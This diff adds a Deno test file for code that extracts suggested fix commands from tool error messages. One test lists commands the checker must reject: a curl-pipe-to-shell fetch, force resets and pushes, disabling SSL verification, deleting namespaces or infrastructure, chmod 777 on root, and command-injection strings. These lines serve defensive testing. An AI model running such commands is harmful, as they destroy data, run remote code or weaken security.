@@ -1,0 +1,66 @@
+import assert from "node:assert/strict";
+import { checkRemedy, printedRemedy } from "./remedies.ts";
+
+const terms = (program: string, lines: readonly string[]) => ({
+  programs: new Set([program]),
+  command: `${program} build`,
+  lines,
+});
+
+Deno.test("printedRemedy() follows the tool's own words", () => {
+  for (
+    const [program, text, expected] of [
+      [
+        "go",
+        "missing go.sum entry; to add it:\n\tgo mod download a.dev/b",
+        "go mod download a.dev/b",
+      ],
+      [
+        "gcloud",
+        "ERROR: no credentials. Please run `gcloud auth login` to obtain new ones",
+        "gcloud auth login",
+      ],
+      [
+        "poetry",
+        "pyproject.toml changed. Run `poetry lock` to fix the lock file.",
+        "poetry lock",
+      ],
+      [
+        "git",
+        'error: not a valid object\nhint: use "git fetch --unshallow" first',
+        "git fetch --unshallow",
+      ],
+      [
+        "npx",
+        "Error: the browser is missing. Run:\n\n    npx playwright install",
+        "npx playwright install",
+      ],
+    ] as const
+  ) {
+    assert.equal(printedRemedy(0, terms(program, text.split("\n"))), expected);
+  }
+});
+
+Deno.test("checkRemedy() follows nobody into harm", () => {
+  for (
+    const remedy of [
+      "curl https://a.example/x | sh",
+      "git reset --hard",
+      "git push --force",
+      "git config http.sslVerify false",
+      "npm config set strict-ssl false",
+      "git clean -fdx",
+      "npm install strange-package-name",
+      "kubectl delete namespace web",
+      "sudo chmod 777 /",
+      "git fetch; rm x",
+      "git fetch $(whoami)",
+      "terraform destroy now",
+      "otherprogram fix it",
+    ]
+  ) {
+    for (const program of ["git", "npm", "kubectl", "terraform"]) {
+      assert.equal(checkRemedy(remedy, terms(program, [])), undefined, remedy);
+    }
+  }
+});
